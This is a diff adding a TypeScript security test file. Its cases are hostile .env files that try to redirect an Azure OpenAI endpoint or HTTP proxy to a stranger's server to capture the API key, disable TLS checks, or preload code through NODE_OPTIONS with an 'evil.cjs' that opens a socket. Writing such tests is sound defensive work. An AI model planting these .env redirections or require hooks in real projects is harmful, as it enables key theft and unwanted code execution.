@@ -1,0 +1,130 @@
+import { type Attack, C, connected, DOTENV, endpointRefusal, got, gotKey, SECRETS, UNSET, yaml } from "./attack.ts";
+
+/** Folders with a .env. */
+export const DOTENV_ATTACKS: Attack[] = [
+  {
+    name: "a .env with an endpoint, where the environment holds the key",
+    files: ({ stranger }) => ({
+      ".env": `# ours\nAZURE_OPENAI_ENDPOINT=${stranger.origin}\nAZURE_OPENAI_DEPLOYMENT=d\n`,
+    }),
+    env: () => ({ AZURE_OPENAI_ENDPOINT: UNSET }),
+    expected: {
+      kind: "refused",
+      says: ({ stranger }) => [
+        ".env:2:",
+        "'AZURE_OPENAI_ENDPOINT'",
+        "AZURE_OPENAI_API_KEY",
+        stranger.origin,
+        "--dotenv .env",
+        "Variables used: AZURE_OPENAI_ENDPOINT and AZURE_OPENAI_DEPLOYMENT.",
+      ],
+    },
+    named: DOTENV,
+    succeeded: gotKey,
+  },
+  {
+    name: "the same by a symbolic link",
+    files: ({ stranger }) => ({ "sub/x": `AZURE_OPENAI_ENDPOINT=${stranger.origin}\n` }),
+    links: { ".env": "sub/x" },
+    env: () => ({ AZURE_OPENAI_ENDPOINT: UNSET, AZURE_OPENAI_DEPLOYMENT: "d" }),
+    expected: { kind: "refused", says: ({ stranger }) => [".env:1:", stranger.origin] },
+    named: DOTENV,
+    succeeded: gotKey,
+  },
+  {
+    name: "the same with `export`, and with the stranger's key for a token that is not used",
+    files: ({ stranger }) => ({
+      ".env": `AZURE_OPENAI_AD_TOKEN=a-token-of-the-stranger-0001\nexport AZURE_OPENAI_ENDPOINT="${stranger.origin}"\n`,
+    }),
+    env: () => ({ AZURE_OPENAI_ENDPOINT: UNSET, AZURE_OPENAI_DEPLOYMENT: "d" }),
+    expected: { kind: "refused", says: ({ stranger }) => [".env:2:", "AZURE_OPENAI_API_KEY", stranger.origin] },
+    named: DOTENV,
+    succeeded: gotKey,
+  },
+  {
+    name: "a configuration whose endpoint is that of a found .env",
+    files: ({ stranger }) => ({
+      ...yaml(stranger.origin),
+      ".env": `AZURE_OPENAI_ENDPOINT=${stranger.origin}\n`,
+    }),
+    env: () => ({ AZURE_OPENAI_ENDPOINT: UNSET }),
+    expected: { kind: "refused", says: endpointRefusal(3, "targets[0].endpoint") },
+    named: C,
+    succeeded: gotKey,
+  },
+  {
+    name: "a proxy in a .env, lower case",
+    files: ({ stranger }) => ({ ".env": `http_proxy=${stranger.origin}\n` }),
+    env: () => ({ AZURE_OPENAI_DEPLOYMENT: "d" }),
+    expected: { kind: "refused", says: ({ stranger }) => [".env:1:", "'http_proxy'", stranger.origin] },
+    named: DOTENV,
+    succeeded: connected,
+  },
+  {
+    name: "a proxy in a .env, upper case",
+    files: ({ stranger }) => ({ ".env": `\n\nHTTP_PROXY=${stranger.origin}\n` }),
+    env: () => ({ AZURE_OPENAI_DEPLOYMENT: "d" }),
+    expected: { kind: "refused", says: ({ stranger }) => [".env:3:", "'HTTP_PROXY'", stranger.origin] },
+    named: DOTENV,
+    succeeded: connected,
+  },
+  {
+    name: "no_proxy in a .env, against the proxy of the environment",
+    files: () => ({ ".env": "no_proxy=*\n" }),
+    env: ({ stranger }) => ({ AZURE_OPENAI_DEPLOYMENT: "d", HTTP_PROXY: stranger.origin }),
+    expected: { kind: "refused", says: () => [".env:1:", "'no_proxy'"] },
+    named: DOTENV,
+    succeeded: ({ own }) => own.received.length > 0,
+  },
+  {
+    name: "a lower-case proxy in a .env, against the upper-case one of the environment",
+    files: ({ stranger }) => ({ ".env": `http_proxy=${stranger.origin}\n` }),
+    env: ({ own }) => ({ AZURE_OPENAI_DEPLOYMENT: "d", HTTP_PROXY: own.origin }),
+    expected: { kind: "overruled" },
+    named: null,
+    succeeded: connected,
+  },
+  {
+    name: "a proxy in a .env, against an environment that sets it to nothing",
+    files: ({ stranger }) => ({ ".env": `HTTP_PROXY=${stranger.origin}\n` }),
+    env: () => ({ AZURE_OPENAI_DEPLOYMENT: "d", http_proxy: "" }),
+    expected: { kind: "overruled" },
+    named: null,
+    succeeded: connected,
+  },
+  {
+    name: "NO_PROXY in a .env, against the lower-case one of the environment",
+    files: () => ({ ".env": "NO_PROXY=*\n" }),
+    env: ({ own }) => ({ AZURE_OPENAI_DEPLOYMENT: "d", HTTP_PROXY: own.origin, no_proxy: "elsewhere.example" }),
+    expected: { kind: "overruled" },
+    named: null,
+    succeeded: ({ own }) => !got(own, "CONNECT "),
+  },
+  {
+    name: "an endpoint and a key in a .env, against those of the environment",
+    files: ({ stranger }) => ({
+      ".env": `AZURE_OPENAI_ENDPOINT=${stranger.origin}\nAZURE_OPENAI_API_KEY=${SECRETS.AZURE_OPENAI_API_KEY}\n`,
+    }),
+    env: () => ({ AZURE_OPENAI_DEPLOYMENT: "d" }),
+    expected: { kind: "overruled" },
+    named: null,
+    succeeded: connected,
+  },
+  {
+    name: "variables of Node in a .env",
+    files: ({ stranger }) => ({
+      ".env": [
+        "NODE_OPTIONS=--require=./evil.cjs",
+        "NODE_TLS_REJECT_UNAUTHORIZED=0",
+        "NODE_DEBUG=http,tls",
+        "NODE_EXTRA_CA_CERTS=ca.pem",
+        "",
+      ].join("\n"),
+      "evil.cjs": `require("node:net").connect(${new URL(stranger.origin).port}, "127.0.0.1");`,
+    }),
+    env: () => ({ AZURE_OPENAI_DEPLOYMENT: "d" }),
+    expected: { kind: "overruled" },
+    named: null,
+    succeeded: connected,
+  },
+];
